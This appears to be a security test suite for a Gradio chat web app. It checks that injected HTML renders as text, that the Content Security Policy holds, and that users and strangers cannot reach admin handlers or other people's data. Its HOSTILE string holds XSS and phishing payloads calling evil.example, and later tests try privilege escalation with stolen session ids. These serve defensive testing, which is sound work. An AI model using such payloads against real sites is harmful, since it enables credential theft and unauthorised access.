"""What hostile text, hostile users and strangers can do through the page: nothing."""

import itertools
import json
import re
import uuid
from typing import Any

import pytest
from playwright.async_api import expect

from backend.store.models import Role
from tests.browser.chat import chat_of
from tests.browser.handlers import call
from tests.browser.hints import PROBLEM, PROBLEMS, WRONG
from tests.browser.reviews import finished_job
from tests.fixtures.accounts import PASSWORD
from tests.fixtures.pages import OpenBrowser, PageApp, Reader

HOSTILE = """<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2"><img src="https://evil.example/leak?q=secret">
![look](https://evil.example/leak.png?q=secret) ![ref][1]

[1]: https://evil.example/other.png

<form action="https://evil.example/take" method="post"><input name="password"><button>Sign in again</button></form>
<div style="position:fixed;inset:0;z-index:9999;background:white">overlay</div>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/a.css">
<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>
<svg onload="window.hacked = 3"><a href="javascript:window.hacked = 4">x</a></svg>
[click](javascript:window.hacked=5) <base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=/x">
<button type="button" class="act act-delete">fake</button>

$$\\href{javascript:window.hacked=6}{x}$$ \\(\\includegraphics{https://evil.example/b.png}\\)

```html
<script>window.hacked = 7</script>
```

The end of it."""
_SIGNS = (
    "img[src*=evil], form[action*=evil], iframe, object, embed, [src^='https://evil'], link[href*=evil], base, "
    "meta[content*='url=']"
)


async def test_an_answer_full_of_html_is_text(page_app: PageApp, reader: Reader) -> None:
    page_app.engine.answer(HOSTILE)
    chat = await chat_of(reader)
    await chat.ask(HOSTILE)
    await chat.done()
    await _is_text(chat)
    await expect(chat.answers.last).to_contain_text("The end of it.")
    await expect(chat.answers.last).to_contain_text("<img src=x onerror=")
    await expect(chat.answers.last).to_contain_text("<form action=")
    await expect(chat.answers.last.locator("pre code")).to_have_text("<script>window.hacked = 7</script>\n")
    await expect(chat.box).to_be_in_viewport()
    await chat.reload()
    await expect(chat.answers.last).to_contain_text("The end of it.")
    await _is_text(chat)


async def _is_text(chat: Any) -> None:
    assert await chat.page.evaluate("window.hacked") is None
    for bubble in (chat.questions.last, chat.answers.last):
        assert await bubble.locator(_SIGNS).count() == 0
        assert await bubble.locator("form, input, style, script, a[href^=javascript], button.act").count() == 0
    assert await chat.page.locator("body").is_visible()


async def test_titles_names_and_comments_are_text(page_app: PageApp, open_browser: OpenBrowser) -> None:
    payload = "<img src=x onerror=window.hacked=1>"
    page_app.add_user(payload)
    reader = await open_browser(role=Role.ADMIN)
    chat = await chat_of(reader)
    await chat.asked(payload)
    await expect(chat.titles).to_have_text([payload])
    await expect(chat.heading.first).to_have_text(payload)
    await chat.do("dislike")
    await chat.page.locator("#thread .inline-form input").fill(payload)
    await chat.page.locator("#thread .inline-form button").click()
    await expect(chat.page.locator("#thread .act-dislike.on")).to_be_visible()
    await chat.page.locator("#header .act-place.at-users").click()
    await expect(chat.page.locator("#users-list .username", has_text=payload)).to_have_text(payload)
    assert await chat.page.locator("img[src=x]").count() == 0
    assert await chat.page.evaluate("window.hacked") is None


async def test_the_policy_is_sent_and_holds(page_app: PageApp, reader: Reader) -> None:
    page = await reader.context.new_page()
    answer = await page.goto(page_app.url)
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "unsafe-eval" not in policy
    reader.watch.allow("evil.example|Content Security Policy", because="the test tries what the policy forbids")
    tried = await page.evaluate(
        """async () => {
          const refused = [];
          const told = (start) => new Promise(done => {
            document.addEventListener("securitypolicyviolation", event => {
              refused.push(event.effectiveDirective);
              done();
            }, { once: true });
            start();
          });
          await told(() => { new Image().src = "https://evil.example/a.png"; });
          await told(() => fetch("https://evil.example/").catch(() => 0));
          await told(() => { try { new Function("1")(); refused.push("evaluated"); } catch { /* as it should */ } });
          return refused;
        }"""
    )
    assert tried == ["img-src", "connect-src", "script-src"]


# --- handlers, called by their number -------------------------------------------------------------------


def _attempts(victim: str, conversation: str, message: str, hint: str, problem_set: str, job: str) -> list[list[Any]]:
    """Inputs for each number of them a handler may take: what a page would send, with other people's ids."""
    rated = json.dumps({"do": "rate", "id": hint, "arg": "-1", "text": ""})
    complained = json.dumps({"do": "complain", "id": hint, "arg": "wrong", "text": ""})
    imported = json.dumps({"do": "import", "id": "stolen.json", "arg": "replace", "text": PROBLEMS.read_text("utf-8")})
    problem = [str(PROBLEM), "", "", "", ""]
    acts = [json.dumps({"do": do, "id": target, "arg": arg, "text": victim}) for do, target, arg in (
        ("disable", "", ""), ("reset", "", ""), ("role", "", "user"), ("open", conversation, ""),
        ("delete", conversation, ""), ("rename", conversation, ""), ("undo", conversation, ""),
        ("undo", problem_set, ""),
        ("rate", message, "1"), ("regenerate", message, ""), ("edit", message, ""), ("version", message, ""),
    )]  # fmt: skip
    turns = [json.dumps({"do": do, "id": target, "arg": arg, "text": ""}) for do, target, arg in (
        ("open", job, ""), ("started", job, ""), ("pause", job, ""), ("cancel", job, ""), ("retry", job, ""),
        ("delete", job, ""), ("correct", "0", "negative"), ("show", "", "failed"),
    )]  # fmt: skip
    table = [job, "all", "", "", "0"]
    options = ["main", "stolen", 0.1, 64]
    place = [conversation, None, "", 40]
    return [
        [], [None], *[[act] for act in acts], ["intruder", "admin"], ["hi", ["admin"], 1],
        [conversation], place, [conversation, *options], *[[act, *place] for act in acts],
        *[[act, *place, *options] for act in acts[-3:]], ["stolen", "", *place, *options],
        ["stolen", message, *place, *options], [imported], problem, [rated, *problem, None],
        [complained, *problem, None], ["print(1)", *problem, None],
        ["", "print(1)", *problem, "novice", "ko", ["main"], None],
        table, [*table, ""], *[[turn, *table] for turn in turns],
    ]  # fmt: skip


@pytest.mark.thorough
async def test_an_ordinary_user_calls_every_handler_by_its_number(page_app: PageApp, open_browser: OpenBrowser) -> None:
    victim = await open_browser(role=Role.ADMIN)
    page_app.engine.answer("a hidden-treasure of an answer")
    chat = await chat_of(victim)
    sessions: set[str] = set()
    chat.page.on(
        "request", lambda request: sessions.update(re.findall(r'"session_hash":"(\w+)"', request.post_data or ""))
    )
    await chat.asked("where is the hidden-treasure?")
    page_app.engine.answer("nothing of interest")
    conversation = await chat.id()
    message = (await chat.stored())[-1]["id"]
    hint, problem_set = _hint_of(page_app, victim.username), _problem_set(page_app)
    job = finished_job(victim, name="hidden-treasure.csv")
    await chat.page.locator("#header .act-place.at-users").click()  # the admin's handlers exist now
    await chat.page.locator("#users-list tbody tr").first.wait_for()
    (admin_session,) = sessions

    bystander, attacker = page_app.add_user("bystander"), page_app.add_user()
    with page_app.client(attacker) as client:
        config = client.get("/config")
        assert config.status_code == 200
        assert victim.username not in config.text
        assert "users-act" not in config.text
        known = len(config.json()["dependencies"])
        tried = _attempts(victim.username, conversation, message, hint, problem_set, job)
        before = _state(page_app, attacker)
        answers = []
        for fn_index in range(known + 24):
            # Handlers made for the admin's page live in the admin's Gradio session: take it as stolen, too.
            session = uuid.uuid4().hex if fn_index < known else admin_session
            attempts = _fitting(config.json(), fn_index, tried)
            answers += [call(client, fn_index, data, session) for data in attempts]
        for fn_index, name in itertools.product(range(known + 24), ("run", "call")):
            answers.append(client.post(f"/gradio_api/{name}/predict", json={"data": [], "fn_index": fn_index}).text)
            answers.append(client.post(f"/gradio_api/{name}/{fn_index}", json={"data": []}).text)
    assert _state(page_app, attacker) == before
    assert any("You may not do this" in answer for answer in answers), "no handler of the admin's was reached"
    told = "".join(answers)
    for secret in ("hidden-treasure", "argon2", bystander, "root"):
        assert secret not in told, f"{secret} was told"
    assert len((await victim.thread(conversation))["messages"]) == 2
    page_app.query("DELETE FROM problem_sets WHERE id = %s", problem_set)


def _hint_of(app: PageApp, username: str) -> str:
    """A hint of that person, from a template because the engine breaks off."""
    app.engine.fail("die-mid-stream", after_tokens=1, times=1)
    with app.client(username) as client:
        told = client.post("/api/v1/hints", json={"problem_id": PROBLEM, "code": WRONG})
    assert told.status_code == 200, told.text
    return str(told.json()["id"])


def _problem_set(app: PageApp) -> str:
    """A set that an admin imported."""
    rows = app.query(
        "INSERT INTO problem_sets (id, name, mode, payload) VALUES (gen_random_uuid(), 'set', 'add', %s) RETURNING id",
        PROBLEMS.read_bytes(),
    )
    return str(rows[0][0])


def _fitting(config: dict[str, Any], fn_index: int, attempts: list[list[Any]]) -> list[list[Any]]:
    """The attempts a handler can take; all of them for one that the configuration does not name."""
    known = next((row for row in config["dependencies"] if row["id"] == fn_index), None)
    return [data for data in attempts if known is None or len(data) == len(known["inputs"])]


def _state(app: PageApp, attacker: str) -> dict[str, list[tuple[Any, ...]]]:
    """Everything that is not the attacker's own."""
    return {
        "users": app.query("SELECT username, role, password_hash, disabled_at, language FROM users ORDER BY username"),
        "conversations": app.query(
            "SELECT c.id, c.title, c.deleted_at, c.head_id, c.system_prompt FROM conversations c "
            "JOIN users u ON u.id = c.user_id WHERE u.username <> %s ORDER BY c.id", attacker),
        "messages": app.query(
            "SELECT m.id, m.content, m.rating, m.comment FROM messages m JOIN conversations c ON c.id = "
            "m.conversation_id JOIN users u ON u.id = c.user_id WHERE u.username <> %s ORDER BY m.id", attacker),
        "problem_sets": app.query("SELECT id, name FROM problem_sets ORDER BY number"),
        "hints": app.query(
            "SELECT h.id, h.rating, h.complaint FROM hints h JOIN users u ON u.id = h.user_id "
            "WHERE u.username <> %s ORDER BY h.id", attacker),
        "attempts": app.query(
            "SELECT a.id FROM hint_attempts a JOIN users u ON u.id = a.user_id WHERE u.username <> %s ORDER BY a.id",
            attacker),
        "jobs": app.query(
            "SELECT j.id, j.state, j.finished_at, count(r.corrected_label) FROM sentiment_jobs j "
            "JOIN users u ON u.id = j.user_id LEFT JOIN sentiment_rows r ON r.job_id = j.id "
            "WHERE u.username <> %s GROUP BY j.id ORDER BY j.id", attacker),
        "tokens": app.query("SELECT id, scopes FROM api_tokens ORDER BY id"),
        "sessions": app.query("SELECT id, revoked_at FROM login_sessions ORDER BY id"),
    }  # fmt: skip


# --- strangers -----------------------------------------------------------------------------------------


def _routes() -> list[tuple[str, str]]:
    """Method and path of every route of the app as it is served, Gradio's own included."""
    from fastapi.routing import APIRoute
    from starlette.routing import Mount, Route

    from app import create_app, mount, services_of
    from backend.settings import load

    services = services_of(load())
    whole = create_app(services)
    mount(whole, services)
    found: set[tuple[str, str]] = set()

    def walk(routes: list[Any], prefix: str) -> None:
        for route in routes:
            if isinstance(route, Mount):
                found.add(("GET", f"{prefix}{route.path}/x"))
                walk(list(route.routes or []), prefix + route.path.rstrip("/"))
            elif included := getattr(route, "original_router", None):
                walk(list(included.routes), prefix)
            elif isinstance(route, Route | APIRoute):
                path = prefix + route.path
                for name in ("{", "}", ":path"):
                    path = path.replace(name, "")
                found.update((method, path) for method in route.methods or {"GET"})

    walk(list(whole.routes), "")
    return sorted(found)


def test_a_stranger_is_refused_everywhere(page_app: PageApp) -> None:
    public = {"/health", "/health/live", "/login", "/metrics", "/logout", "/api/v1/pod/heartbeat"}
    routes = _routes()
    assert len(routes) > 60
    assert any(path.startswith("/gradio_api/queue") for _, path in routes)
    with page_app.client() as client:
        for method, path in routes:
            answer = client.request(method, path, json={} if method not in ("GET", "HEAD") else None)
            if path not in public:
                assert answer.status_code == 401, f"{method} {path}: {answer.status_code} {answer.text[:200]}"
        page = client.get("/", headers={"accept": "text/html"})
        assert (page.status_code, page.headers["location"]) == (303, "/login?next=%2F")
        for path in ("/static/favicon.svg", "/health", "/health/live", "/login"):
            assert client.get(path).status_code == 200, path


@pytest.mark.parametrize(
    "path", [pytest.param("/conversations/{}", marks=pytest.mark.thorough), "/conversations/{}/export?format=md"]
)
async def test_the_address_of_another_person_shows_nothing(
    page_app: PageApp, open_browser: OpenBrowser, path: str
) -> None:
    owner, other = await open_browser(), await open_browser()
    page_app.engine.answer("숨긴 대답")
    chat = await chat_of(owner)
    await chat.asked("숨긴 질문")
    found = await other.context.request.get(f"{page_app.url}/api/v1" + path.format(await chat.id()))
    assert found.status == 404
    theirs = await chat_of(other, f"/?c={await chat.id()}")
    await expect(theirs.notice).to_contain_text("그 대화를 찾을 수 없습니다")
    assert "숨긴" not in await theirs.page.content()


def test_a_session_that_was_signed_out_opens_nothing(page_app: PageApp) -> None:
    username = page_app.add_user()
    with page_app.client(username) as client:
        cookie = client.cookies["ondol_session"]
        assert client.get("/config").status_code == 200
        client.post("/logout")
        assert client.get("/config", headers={"cookie": f"ondol_session={cookie}"}).status_code == 401
        assert client.post("/login", data={"username": username, "password": PASSWORD + "!"}).status_code == 401
